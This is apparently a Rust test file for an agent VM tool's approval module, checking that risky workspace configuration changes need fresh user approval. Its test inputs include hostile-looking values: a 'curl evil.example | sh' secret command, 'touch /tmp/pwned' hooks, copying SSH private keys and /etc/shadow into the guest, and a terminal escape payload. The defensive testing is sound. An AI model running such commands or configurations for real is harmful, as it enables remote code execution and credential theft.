//! Approvals keyed by path and content.

use std::path::{Path, PathBuf};

use super::*;
use crate::config::{config_path, resolve, Host, Source};

struct Ws {
    _tmp: tempfile::TempDir,
    root: PathBuf,
    approvals: PathBuf,
}

impl Ws {
    fn new() -> Ws {
        let tmp = tempfile::tempdir().unwrap();
        let root = tmp.path().to_path_buf();
        Ws {
            approvals: root.join("config/agentvm/approved"),
            root,
            _tmp: tmp,
        }
    }

    fn host(&self) -> Host {
        Host {
            home: Some(self.root.join("home")),
            cpus: 2,
            memory_mib: 8192,
            data_dir: Some(self.root.join("data")),
            guest_user: None,
        }
    }

    /// The configuration of workspace `ws` (under the root) whose file says `text`.
    fn cfg(&self, ws: &str, text: &str) -> ResolvedConfig {
        let dir = self.root.join(ws);
        std::fs::create_dir_all(dir.join(".agentvm")).unwrap();
        std::fs::write(config_path(&dir), text).unwrap();
        let src = Source::new(&config_path(&dir), text.to_string());
        resolve(&dir, Some(&src), &self.host()).unwrap()
    }

    fn standing(&self, cfg: &ResolvedConfig) -> Standing {
        standing_in(&self.approvals, cfg).unwrap()
    }
}

#[test]
fn a_new_workspace_is_not_approved_until_trusted() {
    let ws = Ws::new();
    let cfg = ws.cfg("a/api", "[hooks]\npre_up = [\"make deps\"]\n");
    let s = ws.standing(&cfg);
    assert!(matches!(s, Standing::New(_)), "{s:?}");
    let summary = s.summary();
    assert!(
        summary.contains("host commands (hooks):\n    pre_up: make deps"),
        "{summary}"
    );
    let path = approve_in(&ws.approvals, &cfg).unwrap();
    assert!(path.starts_with(&ws.approvals));
    assert!(matches!(ws.standing(&cfg), Standing::Approved));
    // Approvals are the user's alone.
    use std::os::unix::fs::PermissionsExt;
    let mode = std::fs::metadata(&path).unwrap().permissions().mode();
    assert_eq!(mode & 0o777, 0o600);
}

#[test]
fn any_change_that_widens_access_needs_a_new_approval() {
    let ws = Ws::new();
    let cfg = ws.cfg("w", "[network]\ndomains = [\"github.com\"]\n");
    approve_in(&ws.approvals, &cfg).unwrap();
    let cases = [
        ("[hooks]\npre_up = [\"touch /tmp/pwned\"]\n[network]\ndomains = [\"github.com\"]\n", "+ pre_up: touch /tmp/pwned"),
        ("[[mounts]]\nsource = \"~\"\ntarget = \"/host-home\"\n[network]\ndomains = [\"github.com\"]\n", "-> /host-home (read-write)"),
        ("[env]\nK = \"${AWS_SECRET_ACCESS_KEY}\"\n[network]\ndomains = [\"github.com\"]\n", "+ K = ${AWS_SECRET_ACCESS_KEY}"),
        ("[network]\nmode = \"open\"\ndomains = [\"github.com\"]\n", "- mode filtered\n    + mode open"),
        ("[network]\ndomains = [\"github.com\", \"evil.example\"]\n", "+ domain evil.example"),
        ("name = \"other\"\n[network]\ndomains = [\"github.com\"]\n", "+ name other"),
        ("kernel = \"/tmp/k\"\n[network]\ndomains = [\"github.com\"]\n", "+ kernel /tmp/k"),
        ("[resources]\nvcpus = 1\n[network]\ndomains = [\"github.com\"]\n", "+ vcpus 1"),
        ("git_hooks = \"allow\"\n[network]\ndomains = [\"github.com\"]\n", "+ git_hooks allow"),
        ("seccomp = \"off\"\n[network]\ndomains = [\"github.com\"]\n", "+ seccomp off"),
        ("seccomp = \"log\"\n[network]\ndomains = [\"github.com\"]\n", "+ seccomp log"),
        // The guest using the host's ssh keys, or more of them.
        ("[ssh]\nagent = true\n[network]\ndomains = [\"github.com\"]\n", "ssh-agent (the guest may use your ssh keys):\n    + agent forwarded"),
        // A host file copied into the guest: which one, where, which mode.
        ("[[files]]\nsource = \"/home/u/.ssh/id_ed25519\"\ntarget = \"~/k\"\n[network]\ndomains = [\"github.com\"]\n", "host files copied into the guest at up (files):\n    + /home/u/.ssh/id_ed25519 -> ~/k (mode of the source)"),
        ("[[files]]\nsource = \"/etc/hosts\"\ntarget = \"/etc/hosts\"\nmode = \"0600\"\n[network]\ndomains = [\"github.com\"]\n", "+ /etc/hosts -> /etc/hosts (mode 0600)"),
    ];
    for (text, line) in cases {
        let changed = ws.cfg("w", text);
        let s = ws.standing(&changed);
        assert!(matches!(s, Standing::Changed { .. }), "{text}: {s:?}");
        assert!(s.summary().contains(line), "{text}:\n{}", s.summary());
    }
    // Saying the default out loud changes nothing either (and approvals
    // from before the key existed stay valid).
    let kill = ws.cfg(
        "w",
        "seccomp = \"kill\"\n[network]\ndomains = [\"github.com\"]\n",
    );
    assert!(matches!(ws.standing(&kill), Standing::Approved));
    // Comments and formatting change nothing that matters.
    let same = ws.cfg(
        "w",
        "# a comment\n[network]\ndomains = [ \"github.com\" ]\n",
    );
    assert!(matches!(ws.standing(&same), Standing::Approved));
}

#[test]
fn a_secret_that_runs_a_command_or_goes_to_a_new_host_needs_approval() {
    let ws = Ws::new();
    let base = "[network]\ndomains = [\"github.com\", \"evil.example\"]\n[secrets]\n";
    let cfg = ws.cfg(
        "w",
        &format!("{base}GH = {{ value = \"${{GH_TOKEN}}\", hosts = [\"api.github.com\"] }}\n"),
    );
    let s = ws.standing(&cfg).summary();
    assert!(
        s.contains(
            "secrets (the guest sees placeholders; commands run on this host at up):\n    \
                    GH = value ${GH_TOKEN} -> api.github.com"
        ),
        "{s}"
    );
    approve_in(&ws.approvals, &cfg).unwrap();
    let cases = [
        (
            "GH = { command = \"curl evil.example | sh\", hosts = [\"api.github.com\"] }",
            "+ GH = command curl evil.example | sh -> api.github.com",
        ),
        (
            "GH = { value = \"${GH_TOKEN}\", hosts = [\"api.github.com\", \"evil.example\"] }",
            "+ GH = value ${GH_TOKEN} -> api.github.com, evil.example",
        ),
        (
            "GH = { value = \"${AWS_SECRET_ACCESS_KEY}\", hosts = [\"api.github.com\"] }",
            "- GH = value ${GH_TOKEN} -> api.github.com",
        ),
        (
            "GH = { value = \"${GH_TOKEN}\", hosts = [\"api.github.com\"] }\n\
             X = { command = \"touch /tmp/pwned\", hosts = [\"github.com\"] }",
            "+ X = command touch /tmp/pwned -> github.com",
        ),
    ];
    for (secrets, line) in cases {
        let changed = ws.cfg("w", &format!("{base}{secrets}\n"));
        let s = ws.standing(&changed);
        assert!(matches!(s, Standing::Changed { .. }), "{secrets}: {s:?}");
        let summary = s.summary();
        assert!(summary.contains(line), "{secrets}:\n{summary}");
        assert!(summary.contains("secrets ("), "{summary}");
    }
    // The upstream CA's text is part of the approval.
    let pem = ws.root.join("w/ca.pem");
    std::fs::write(
        &pem,
        "-----BEGIN CERTIFICATE-----\nA\n-----END CERTIFICATE-----\n",
    )
    .unwrap();
    let with_ca = format!(
        "{}upstream_ca = \"ca.pem\"\n[secrets]\nGH = {{ value = \"${{GH_TOKEN}}\", hosts = [\"api.github.com\"] }}\n",
        base.trim_end_matches("[secrets]\n")
    );
    let cfg = ws.cfg("w", &with_ca);
    let s = ws.standing(&cfg).summary();
    assert!(
        s.contains("+ upstream_ca ") && s.contains("ca.pem (sha256 "),
        "{s}"
    );
    approve_in(&ws.approvals, &cfg).unwrap();
    assert!(matches!(
        ws.standing(&ws.cfg("w", &with_ca)),
        Standing::Approved
    ));
    std::fs::write(
        &pem,
        "-----BEGIN CERTIFICATE-----\nB\n-----END CERTIFICATE-----\n",
    )
    .unwrap();
    assert!(matches!(
        ws.standing(&ws.cfg("w", &with_ca)),
        Standing::Changed { .. }
    ));
}

#[test]
fn an_approval_from_before_secrets_stays_valid() {
    // The view of a configuration without secrets or an upstream CA
    // serializes exactly as it did before those keys existed.
    let ws = Ws::new();
    let cfg = ws.cfg("w", "[network]\ndomains = [\"github.com\"]\n");
    let json = serde_json::to_string(&View::of(&cfg)).unwrap();
    assert!(
        !json.contains("secrets") && !json.contains("upstream_ca"),
        "{json}"
    );
}

#[test]
fn widening_the_forwarded_ssh_agent_needs_a_new_approval() {
    let ws = Ws::new();
    let key = "SHA256:vJEOMYi0KD/7DnFpBKm8W86L+2eE5J+s0tkOeF1rh1w";
    let other = "SHA256:+DiY3wvvV6TuJJhbpZisF/zLDA0zPMSvHdkr4UvCOqU";
    let restricted = format!("[ssh]\nagent = true\nkeys = [\"{key}\"]\nhosts = [\"github.com\"]\n");
    let cfg = ws.cfg("w", &restricted);
    let s = ws.standing(&cfg);
    assert!(matches!(s, Standing::New(_)), "{s:?}");
    assert!(
        s.summary().contains(&format!("key {key}")),
        "{}",
        s.summary()
    );
    approve_in(&ws.approvals, &cfg).unwrap();
    assert!(matches!(ws.standing(&cfg), Standing::Approved));
    for (text, line) in [
        // Every key, or another key, or every host.
        (
            "[ssh]\nagent = true\nhosts = [\"github.com\"]\n".to_string(),
            format!("- key {key}\n    + key: every key in your agent"),
        ),
        (
            format!("[ssh]\nagent = true\nkeys = [\"{other}\"]\nhosts = [\"github.com\"]\n"),
            format!("+ key {other}"),
        ),
        (
            format!("[ssh]\nagent = true\nkeys = [\"{key}\"]\n"),
            "- host github.com\n    + host: any server".to_string(),
        ),
    ] {
        let s = ws.standing(&ws.cfg("w", &text));
        assert!(matches!(s, Standing::Changed { .. }), "{text}: {s:?}");
        assert!(s.summary().contains(&line), "{text}:\n{}", s.summary());
    }
    // Off again: the approval before `[ssh]` existed is what it matches.
    let plain = ws.cfg("w", "");
    approve_in(&ws.approvals, &plain).unwrap();
    let off = ws.cfg("w", "[ssh]\nagent = false\n");
    assert!(matches!(ws.standing(&off), Standing::Approved));
}

#[test]
fn hooks_and_mounts_come_first_in_the_summary() {
    let ws = Ws::new();
    let cfg = ws.cfg(
        "w",
        "[network]\nmode = \"open\"\n[env]\nA = \"1\"\n[[mounts]]\nsource = \"/srv\"\ntarget = \"/srv\"\n[hooks]\npost_down = [\"x\"]\n",
    );
    let s = ws.standing(&cfg).summary();
    let at = |t: &str| s.find(t).unwrap_or_else(|| panic!("{t} in {s}"));
    assert!(at("hooks") < at("mounts") && at("mounts") < at("env") && at("env") < at("network"));
}

#[test]
fn a_changed_plugin_file_needs_a_new_approval() {
    let ws = Ws::new();
    let plugin = ws.root.join("w/.agentvm/p.toml");
    std::fs::create_dir_all(plugin.parent().unwrap()).unwrap();
    std::fs::write(&plugin, "scripts = [\"true\"]\n").unwrap();
    let cfg = ws.cfg("w", "plugins = [\"./p.toml\"]\n");
    approve_in(&ws.approvals, &cfg).unwrap();
    // Even a comment: what the user reviewed is the file.
    std::fs::write(&plugin, "scripts = [\"true\"]\n# changed\n").unwrap();
    let cfg = ws.cfg("w", "plugins = [\"./p.toml\"]\n");
    let s = ws.standing(&cfg);
    assert!(matches!(s, Standing::Changed { .. }), "{s:?}");
    assert!(s.summary().contains("plugins:"), "{}", s.summary());
}

#[test]
fn moving_the_workspace_needs_a_new_approval() {
    let ws = Ws::new();
    let text = "[network]\ndomains = [\"github.com\"]\n";
    approve_in(&ws.approvals, &ws.cfg("a/api", text)).unwrap();
    assert!(matches!(
        ws.standing(&ws.cfg("a/api", text)),
        Standing::Approved
    ));
    // Same name, same content, another path.
    let moved = ws.cfg("b/api", text);
    assert!(matches!(ws.standing(&moved), Standing::New(_)));
}

#[test]
fn a_damaged_or_foreign_record_approves_nothing() {
    let ws = Ws::new();
    let cfg = ws.cfg("w", "");
    let path = approve_in(&ws.approvals, &cfg).unwrap();
    std::fs::write(&path, b"{not json").unwrap();
    assert!(matches!(ws.standing(&cfg), Standing::New(_)));
    // A record for another workspace under this one's id.
    let other = ws.cfg("x", "");
    approve_in(&ws.approvals, &other).unwrap();
    std::fs::rename(approval_path(&ws.approvals, &other), &path).unwrap();
    assert!(matches!(ws.standing(&cfg), Standing::New(_)));
}

#[test]
fn guest_written_text_is_escaped_in_the_summary() {
    let ws = Ws::new();
    let cfg = ws.cfg(
        "w",
        "[hooks]\npre_up = [\"true \\u001b]52;c;ZXZpbA==\\u0007\"]\n",
    );
    let s = ws.standing(&cfg).summary();
    assert!(!s.contains('\x1b') && !s.contains('\x07'), "{s:?}");
    assert!(s.contains("\\x1b]52;c;ZXZpbA==\\x07"), "{s}");
}

#[test]
fn a_share_holding_the_approvals_is_refused() {
    let ws = Ws::new();
    let cfg = ws.cfg("w", "[[mounts]]\nsource = \"~\"\ntarget = \"/h\"\n");
    let approvals = ws.root.join("home/.config/agentvm");
    assert_eq!(exposing(&cfg, &approvals).unwrap().target, Path::new("/h"));
    let ro = ws.cfg(
        "w",
        "[[mounts]]\nsource = \"~\"\ntarget = \"/h\"\nread_only = true\n",
    );
    assert!(exposing(&ro, &approvals).is_none());
}

#[test]
fn a_workspace_without_a_file_runs_on_the_defaults() {
    let ws = Ws::new();
    let dir = ws.root.join("plain");
    std::fs::create_dir_all(&dir).unwrap();
    let cfg = resolve(&dir, None, &ws.host()).unwrap();
    assert!(require(&cfg).is_ok());
    // A file, even an empty one, is the workspace's choice.
    let cfg = ws.cfg("plain", "");
    assert!(matches!(ws.standing(&cfg), Standing::New(_)));
}

#[test]
fn copied_files_are_in_the_approval_and_a_changed_one_needs_another() {
    let ws = Ws::new();
    let text = "[[files]]\nsource = \"/etc/hostname\"\ntarget = \"~/.gitconfig\"\n";
    let cfg = ws.cfg("f", text);
    let s = ws.standing(&cfg);
    assert!(
        s.summary()
            .contains("host files copied into the guest at up (files):\n    /etc/hostname -> ~/.gitconfig (mode of the source)"),
        "{}",
        s.summary()
    );
    approve_in(&ws.approvals, &cfg).unwrap();
    assert!(matches!(ws.standing(&cfg), Standing::Approved));
    // Another target, source or mode each need approval again.
    for changed in [
        "[[files]]\nsource = \"/etc/hostname\"\ntarget = \"~/.bashrc\"\n",
        "[[files]]\nsource = \"/etc/shadow\"\ntarget = \"~/.gitconfig\"\n",
        "[[files]]\nsource = \"/etc/hostname\"\ntarget = \"~/.gitconfig\"\nmode = \"0777\"\n",
    ] {
        let c = ws.cfg("f", changed);
        let s = ws.standing(&c);
        assert!(matches!(s, Standing::Changed { .. }), "{changed}");
        assert!(s.summary().contains("(files):"), "{}", s.summary());
    }
    // No files: the view serializes as it did before the key existed.
    let plain = View::of(&ws.cfg("g", ""));
    assert!(!serde_json::to_string(&plain).unwrap().contains("\"files\""));
}
